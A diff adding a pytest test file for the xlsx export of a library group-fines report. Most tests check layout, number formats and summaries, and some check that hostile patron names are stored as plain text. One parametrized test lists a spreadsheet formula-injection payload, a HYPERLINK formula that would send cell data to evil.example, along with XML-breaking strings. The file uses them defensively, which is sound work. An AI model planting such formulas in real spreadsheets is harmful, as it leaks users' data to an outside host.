@@ -1,0 +1,288 @@
+"""The spreadsheet, read back by another library: numbers are numbers, and texts are texts and nothing more."""
+
+from __future__ import annotations
+
+import io
+import re
+import sys
+import tempfile
+import zipfile
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from support.report_samples import (
+    changed_report,
+    empty_report,
+    hostile_reports,
+    large_report,
+    member,
+    report_of,
+    report_with_limits,
+    sample_report,
+)
+
+from evergreen_groups.errors import ConfigurationError
+from evergreen_groups.groups import GroupFines
+from evergreen_groups.render import cell_text, printable, spreadsheet
+from evergreen_groups.render.report import render_bytes, write_file
+from evergreen_groups.report import Report
+
+
+def xlsx(report: Report, *, details: bool = True) -> bytes:
+    stream = io.BytesIO()
+    render_bytes(report, "xlsx", stream, details=details)
+    return stream.getvalue()
+
+
+def workbook(report: Report, *, details: bool = True) -> Any:
+    return openpyxl.load_workbook(io.BytesIO(xlsx(report, details=details)))
+
+
+def rows(worksheet: Any) -> list[dict[str, Any]]:
+    headings, *others = worksheet.iter_rows(values_only=True)
+    return [dict(zip(headings, row, strict=True)) for row in others]
+
+
+def column(worksheet: Any, heading: str) -> list[Any]:
+    """The cells of a column under its heading."""
+    [place] = [cell.column for cell in worksheet[1] if cell.value == heading]
+    return [row[place - 1] for row in worksheet.iter_rows(min_row=2)]
+
+
+def is_marked(cell: Any) -> bool:
+    return cell.fill.fill_type == "solid" and bool(cell.font.bold)
+
+
+def test_groups() -> None:
+    groups = rows(workbook(sample_report())["Groups"])
+    assert groups[0] == {
+        "Group": 1187,
+        "Lead": "Castellanos-Whitfield, Maximiliana Josephine",
+        "Barcode of the lead": "29999000000412",
+        "Library": "BR1",
+        "Members": 4,
+        "Owing": 2,
+        "Combined fines": 1289.35,
+        "Highest own fines": 1204.5,
+        "Over the limit": 2,
+        "Nobody over the limit": "no",
+        "Members out of sight": None,
+        "Fines of those": None,
+    }
+    assert [group["Group"] for group in groups] == [1187, 902, 2240, 85, 31007]
+    assert [group["Nobody over the limit"] for group in groups] == ["no", "yes", "no", "no", "no"]
+    assert [group["Members out of sight"] for group in groups] == [None, None, 2, None, 1]
+    assert [is_marked(cell) for cell in column(workbook(sample_report())["Groups"], "Combined fines")] == [
+        *[False] * 4,
+        True,
+    ]
+    assert [group["Fines of those"] for group in groups] == [None, None, 6.4, None, "not known, not counted"]
+
+
+def test_members() -> None:
+    report = sample_report()
+    found = rows(workbook(report)["Members"])
+    members = [(group, one) for group in report.groups for one in group.members]
+    assert [(row["Group"], row["Name"], row["Library"]) for row in found] == [
+        (group.group, one.name, one.library) for group, one in members
+    ]
+    assert [row["Barcode"] for row in found] == [one.barcode or "no card" for _group, one in members]
+    assert [f"{row['Own fines']:.2f}" for row in found] == [f"{one.own_fines:.2f}" for _group, one in members]
+    assert [row["Over the limit"] for row in found] == ["yes" if one.over_limit else "no" for _group, one in members]
+    assert found[3]["Own fines"] == -3.25
+
+
+def test_members_with_different_limits_have_theirs_beside_them() -> None:
+    book = workbook(report_with_limits())
+    members = book["Members"]
+    assert [cell.value for cell in column(members, "Limit")] == ["more than 5.00", "2.00 or more", "none"]
+    assert members.auto_filter.ref == "A1:I4"
+    assert "limit by profile and home library" in book["Summary"]["B2"].value
+
+
+def test_amounts_are_numbers_with_the_format_of_money() -> None:
+    book = workbook(sample_report())
+    for name, heading in (("Groups", "Combined fines"), ("Members", "Own fines")):
+        cells = column(book[name], heading)
+        assert {(cell.data_type, cell.number_format) for cell in cells} == {("n", "#,##0.00")}
+    assert {cell.number_format for cell in column(book["Groups"], "Group")} == {"0"}
+
+
+def test_members_over_the_limit_are_marked() -> None:
+    members = workbook(sample_report())["Members"]
+    over = [cell.value == "yes" for cell in column(members, "Over the limit")]
+    assert any(over)
+    assert not all(over)
+    for heading in ("Over the limit", "Own fines"):
+        assert [is_marked(cell) for cell in column(members, heading)] == over
+    assert not any(is_marked(cell) for cell in column(members, "Name"))
+
+
+@pytest.mark.parametrize(("name", "last"), [("Groups", "L6"), ("Members", "H17")])
+def test_headings_stay_in_sight_and_filter(name: str, last: str) -> None:
+    worksheet = workbook(sample_report())[name]
+    assert worksheet.freeze_panes == "C2"
+    assert worksheet.auto_filter.ref == f"A1:{last}"
+    assert worksheet.print_title_rows == "$1:$1"
+    assert worksheet.page_setup.orientation == "landscape"
+    assert worksheet.sheet_properties.pageSetUpPr.fitToPage
+
+
+def test_columns_are_as_wide_as_their_texts() -> None:
+    members = workbook(sample_report())["Members"]
+    widths = {cell.value: members.column_dimensions[cell.column_letter].width for cell in members[1]}
+    assert widths["Name"] > 40
+    assert widths["Barcode"] >= 14
+    assert 9 <= widths["Library"] < 15
+
+
+def test_summary() -> None:
+    report = sample_report()
+    summary = workbook(report)["Summary"]
+    facts = {row[0]: row[1] for row in summary.iter_rows(values_only=True) if row[0]}
+    assert (facts["Groups"], facts["Members"], facts["Combined fines"]) == (5, 19, 1396.99)
+    assert facts["For information only"].startswith("The combined fines of a group block nobody.")
+    assert facts["Gateway"] == report.gateway
+    assert [row[1] for row in summary.iter_rows(values_only=True) if row[0] == "Please note"] == list(report.notes)
+
+
+def test_changes() -> None:
+    book = workbook(changed_report())
+    groups = {row["Group"]: row for row in rows(book["Groups"])}
+    assert [groups[group]["Change"] for group in (1187, 902, 2240, 85)] == ["worse", "new", "better", "unchanged"]
+    assert (groups[1187]["Difference"], groups[1187]["Fines before"]) == (85.35, 1204)
+    assert groups[902]["Fines before"] is None
+    assert "was group 11" in groups[2240]["Remarks"]
+    assert {cell.number_format for cell in column(book["Groups"], "Difference")} == {"+#,##0.00;-#,##0.00;0.00"}
+    assert [(row["Group"], row["Fines before"]) for row in rows(book["No longer listed"])] == [
+        (611, 1260.1),
+        (17, 26.1),
+    ]
+    facts = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row[0]}
+    assert (facts["Groups new"], facts["Groups worse"], facts["Groups cleared"]) == (1, 1, 2)
+
+
+def test_without_changes_there_are_no_columns_for_them() -> None:
+    book = workbook(sample_report())
+    assert book.sheetnames == ["Summary", "Groups", "Members"]
+    assert "Change" not in rows(book["Groups"])[0]
+
+
+def test_without_details() -> None:
+    assert workbook(sample_report(), details=False).sheetnames == ["Summary", "Groups"]
+
+
+def test_a_report_that_found_nothing() -> None:
+    book = workbook(empty_report())
+    assert rows(book["Groups"]) == rows(book["Members"]) == []
+    assert book["Groups"].auto_filter.ref == "A1:L1"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "https://evil.example/",
+        "mailto:a@example.org",
+        "internal:Sheet2!A1",
+        "0012",
+        "1e5",
+        "TRUE",
+        "<r><t>rich</t></r>",
+        "<r></si><evil/></r>",
+        "_x0041_",
+        "  blanks  ",
+        "=" * 40_000,
+    ],
+)
+def test_a_text_stays_what_it_is(name: str) -> None:
+    book = workbook(report_of([GroupFines(1, (member(1, name, "30.00", barcode="0012"),))]))
+    [lead] = column(book["Groups"], "Lead")
+    assert (lead.data_type, lead.hyperlink) == ("s", None)
+    assert lead.value.removesuffix(" ") == name[:32_767].removesuffix(" ")
+    assert [cell.value for cell in column(book["Members"], "Barcode")] == ["0012"]
+
+
+@settings(deadline=None, max_examples=40)
+@given(hostile_reports(), st.booleans())
+def test_hostile_names_read_back_and_are_texts(report: Report, details: bool) -> None:
+    content = xlsx(report, details=details)
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    names = [cell.value or "" for cell in column(book["Groups"], "Lead")]
+    assert names == [printable(group.lead.name) for group in report.groups]
+    if details:
+        members = [one for group in report.groups for one in group.members]
+        assert [cell.value or "" for cell in column(book["Members"], "Name")] == [
+            printable(one.name) for one in members
+        ]
+    parts = zipfile.ZipFile(io.BytesIO(content))
+    sheets = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
+    assert not any(re.search('<f>|<hyperlink|t="str"', text) for text in sheets)
+    assert not [name for name in parts.namelist() if "externalLink" in name or "worksheets/_rels" in name]
+
+
+@settings(deadline=None)
+@given(st.text())
+def test_text_of_a_cell_is_printable_and_fits(text: str) -> None:
+    assert cell_text(text).removesuffix(" ") == printable(text).removesuffix(" ")
+    assert len(cell_text(text * 20_000)) <= 32_767
+
+
+def test_the_same_report_gives_the_same_file() -> None:
+    assert xlsx(sample_report()) == xlsx(sample_report())
+
+
+def test_nothing_of_it_lies_in_temporary_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "not-there"))
+    assert workbook(sample_report()).sheetnames == ["Summary", "Groups", "Members"]
+
+
+def test_broken_off_it_says_nothing_on_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A run that is ended by its deadline tells so in one line, whatever is thrown away first."""
+    archives: list[Any] = []
+
+    def broken_off(archive: zipfile.ZipFile, *_arguments: object) -> None:
+        archives.append(archive)
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(zipfile.ZipFile, "writestr", broken_off)
+    with pytest.raises(KeyboardInterrupt):
+        xlsx(sample_report())
+    archives[0].fp.close()
+    archives[0].close()
+
+
+def test_into_a_file(tmp_path: Path) -> None:
+    write_file(sample_report(), "xlsx", tmp_path / "report.xlsx")
+    assert (tmp_path / "report.xlsx").stat().st_mode & 0o777 == 0o600
+    assert openpyxl.load_workbook(tmp_path / "report.xlsx")["Groups"]["A2"].value == 1187
+
+
+def test_a_report_that_is_too_long_for_a_sheet_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(spreadsheet, "MOST_ROWS", 16)
+    with pytest.raises(ConfigurationError, match="a spreadsheet holds 16 rows and the report has more: choose CSV"):
+        xlsx(sample_report())
+    monkeypatch.setattr(spreadsheet, "MOST_ROWS", 17)
+    assert len(rows(workbook(sample_report())["Members"])) == 16
+
+
+def test_without_the_library(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
+    with pytest.raises(ConfigurationError) as caught:
+        xlsx(sample_report())
+    assert str(caught.value).count("\n") == 0
+    assert "pip install 'evergreen-groups[xlsx]'" in str(caught.value)
+
+
+def test_a_large_report(tmp_path: Path) -> None:
+    report = large_report(1000)
+    content = xlsx(replace(report))
+    assert len(content) < 400_000
+    assert len(rows(openpyxl.load_workbook(io.BytesIO(content), read_only=True)["Members"])) == sum(
+        len(group.members) for group in report.groups
+    )
